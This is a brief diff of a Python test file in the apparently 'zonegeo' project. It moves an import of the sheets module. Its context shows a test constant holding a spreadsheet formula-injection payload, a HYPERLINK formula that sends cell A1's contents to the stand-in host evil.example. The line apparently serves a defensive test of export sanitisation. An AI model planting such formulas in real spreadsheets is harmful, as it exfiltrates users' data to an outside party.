@@ -22,8 +22,8 @@ from hypothesis import strategies as st
 
 import zonegeo
 from tests._need import need
-from zonegeo import _sheets
 from zonegeo.cli import cli
+from zonegeo.io import sheets as _sheets
 
 #: The payload of the bug report, and one per dangerous first character.
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
